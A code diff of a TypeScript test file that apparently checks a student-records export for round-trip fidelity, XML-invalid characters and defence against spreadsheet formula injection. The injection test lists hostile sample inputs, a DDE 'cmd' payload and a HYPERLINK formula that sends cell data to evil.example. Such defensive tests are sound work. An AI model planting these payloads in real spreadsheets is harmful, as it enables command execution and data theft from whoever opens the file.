@@ -49,7 +49,7 @@ const piece = fc.oneof(
   { weight: 3, arbitrary: awkward },
   { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 3 }) },
 );
-/** Texts as they are stored: trimmed, normalised, not blank. */
+/** Texts in their stored form: trimmed, normalised, not blank. */
 const stored = fc
   .oneof(
     { weight: 9, arbitrary: fc.array(piece, { minLength: 1, maxLength: 8 }) },
@@ -59,7 +59,7 @@ const stored = fc
   .filter((text) => /[^\s\p{Default_Ignorable_Code_Point}]/u.test(text) && text.isWellFormed())
   .filter((text) => !invisibleProblem(text, 'identifier'));
 
-test.each(['＝1+1', '＋cmd', '－A1', '＠SUM(1)'])('%s is exported as a text and imported as it was', async (text) => {
+test.each(['＝1+1', '＋cmd', '－A1', '＠SUM(1)'])('exports %s as text and imports it unchanged', async (text) => {
   const user = await app.current.make.aUser({ role: 'registrar' });
   await app.current.make.aStudent(user.institution, { student_id: 'S1', first_name: text, last_name: '＋1 555 0100' });
   const client = await app.current.as(user);
@@ -71,36 +71,33 @@ test.each(['＝1+1', '＋cmd', '－A1', '＠SUM(1)'])('%s is exported as a text 
   expect(body).toMatchObject({ unchanged: 1, failed: 0 });
 });
 
-test('a workbook holds no character that XML cannot hold', async () => {
+test('writes no character to a workbook that XML does not allow', async () => {
   const user = await app.current.make.aUser({ role: 'registrar' });
   await app.current.make.aStudent(user.institution, { first_name: 'A\uFFFEB\uFFFFC\u0001D' });
   const { bytes } = await (await app.current.as(user)).download('/students/export?format=xlsx');
   const xml = await textsOf(bytes);
   expect(xml).toContain('A_xFFFE_B_xFFFF_C_x0001_D');
-  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what it must not hold.
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters that it must not contain.
   expect(xml).not.toMatch(/[\0-\x08\x0b\x0c\x0e-\x1f\uFFFE\uFFFF]/);
 });
 
-test.each(['csv', 'xlsx'])(
-  'whatever texts students have, an export as .%s is imported without any change',
-  async (format) => {
-    const user = await app.current.make.aUser({ role: 'registrar' });
-    const texts = fc.sample(fc.tuple(stored, stored, stored, stored), 400);
-    await app.current.registrar.database.pool.query(
-      `insert into students (institution_id, student_id, first_name, last_name, email, enrollment_date, address_street, address_zip)
+test.each(['csv', 'xlsx'])('exports any texts as .%s and imports them without changes', async (format) => {
+  const user = await app.current.make.aUser({ role: 'registrar' });
+  const texts = fc.sample(fc.tuple(stored, stored, stored, stored), 400);
+  await app.current.registrar.database.pool.query(
+    `insert into students (institution_id, student_id, first_name, last_name, email, enrollment_date, address_street, address_zip)
      select $1, n || 'x' || student_id, first_name, last_name, n || '@x.example', '2024-01-01', street, student_id
      from unnest($2::text[], $3::text[], $4::text[], $5::text[]) with ordinality as t (student_id, first_name, last_name, street, n)`,
-      [user.institution.id, ...[0, 1, 2, 3].map((index) => texts.map((tuple) => tuple[index]))],
-    );
-    const client = await app.current.as(user);
-    const { bytes } = await client.download(`/students/export?format=${format}`);
-    const { body } = await client.post('/students/import', formWith(bytes, { mode: 'upsert' }));
-    expect(body.errors).toEqual([]);
-    expect(body).toMatchObject({ total_rows: 400, unchanged: 400, updated: 0, created: 0 });
-  },
-);
+    [user.institution.id, ...[0, 1, 2, 3].map((index) => texts.map((tuple) => tuple[index]))],
+  );
+  const client = await app.current.as(user);
+  const { bytes } = await client.download(`/students/export?format=${format}`);
+  const { body } = await client.post('/students/import', formWith(bytes, { mode: 'upsert' }));
+  expect(body.errors).toEqual([]);
+  expect(body).toMatchObject({ total_rows: 400, unchanged: 400, updated: 0, created: 0 });
+});
 
-test('what begins like a number is kept from being run where it goes on as a formula', async () => {
+test('prefixes texts that begin like a number and continue as a formula', async () => {
   const run = ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://evil.example/?"&E2,"x")', '-1 A1', '+1\n=A1'];
   const harmless = ['-5', '+.25', '+49 (30) 1234-56/7 x89', '-1 Basement'];
   const user = await app.current.make.aUser({ role: 'registrar' });
@@ -117,7 +114,7 @@ function csvField(text: string): string {
   return /[",\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
 }
 
-/** The XML of all parts of a workbook. */
+/** Returns the XML of all parts of a workbook. */
 async function textsOf(workbook: Buffer): Promise<string> {
   const zip = await fromBufferPromise(workbook);
   let xml = '';
